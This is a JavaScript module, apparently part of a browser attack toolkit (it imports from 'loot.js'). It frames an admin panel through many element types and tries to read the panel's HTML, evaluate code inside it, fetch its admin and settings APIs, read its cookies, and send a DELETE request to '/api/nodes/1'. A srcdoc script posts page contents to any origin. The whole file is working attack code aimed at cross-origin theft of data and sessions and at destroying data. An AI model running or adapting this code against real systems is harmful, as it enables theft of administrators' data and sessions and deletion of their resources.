import { afterMs, describe, grabTogether } from './loot.js';

const SETTLE_MS = 1200;

/** Group 5: the panel, and pages with access to it, in frames. */
export function openFrames({ panelOrigin }) {
  const targets = [
    `${panelOrigin}/admin`,
    `${panelOrigin}/admin/nodes`,
    `${panelOrigin}/api/me`,
    '/',
    'about:blank',
  ];
  const tags = [
    ['iframe', 'src'],
    ['embed', 'src'],
    ['object', 'data'],
    ['fencedframe', 'src'],
    ['portal', 'src'],
  ];
  const attempts = tags.flatMap(([tag, attribute]) =>
    targets.map((target) => [`${tag} of ${target}`, () => readFrame(tag, { [attribute]: target })]),
  );
  const script = '<script>parent.postMessage(document.documentElement.outerHTML, "*")</script>';
  return grabTogether([
    ...attempts,
    [
      'written frame',
      () => readFrame('iframe', { srcdoc: `${script}<iframe src="${panelOrigin}/admin"></iframe>` }),
    ],
    [
      'sandboxed frame',
      () => readFrame('iframe', { src: `${panelOrigin}/admin`, sandbox: 'allow-scripts allow-same-origin' }),
    ],
    [
      'frame without credentials',
      () => readFrame('iframe', { src: `${panelOrigin}/admin`, credentialless: '' }),
    ],
    ['frameset', () => readFrameset(`${panelOrigin}/admin`)],
  ]);
}

async function readFrame(tag, attributes) {
  const frame = document.createElement(tag);
  for (const [name, value] of Object.entries(attributes)) frame.setAttribute(name, value);
  document.body.append(frame);
  await afterMs(SETTLE_MS);
  return readWindow(frame.contentWindow ?? frame.contentDocument?.defaultView);
}

async function readFrameset(target) {
  const frames = document.createElement('frameset');
  const frame = document.createElement('frame');
  frame.src = target;
  frames.append(frame);
  document.documentElement.append(frames);
  await afterMs(SETTLE_MS);
  const got = await readWindow(frame.contentWindow);
  frames.remove();
  return got;
}

/** The content of another window, and requests that it can make and this one cannot. */
export async function readWindow(other) {
  if (other === null || other === undefined) return 'no window';
  const parts = [];
  for (const read of [
    () => other.document.documentElement.outerHTML,
    () => other.eval('document.documentElement.innerHTML'),
    async () => describe(await other.fetch('/admin')),
    async () => describe(await other.fetch('/api/settings')),
    async () => describe(await other.fetch('/api/nodes')),
    async () => describe(await other.fetch('/api/nodes/1', { method: 'DELETE' })),
    () => other.document.cookie,
    () => JSON.stringify(other.history.state),
  ]) {
    try {
      parts.push(await read());
    } catch (error) {
      parts.push(String(error));
    }
  }
  return parts.join(' | ');
}
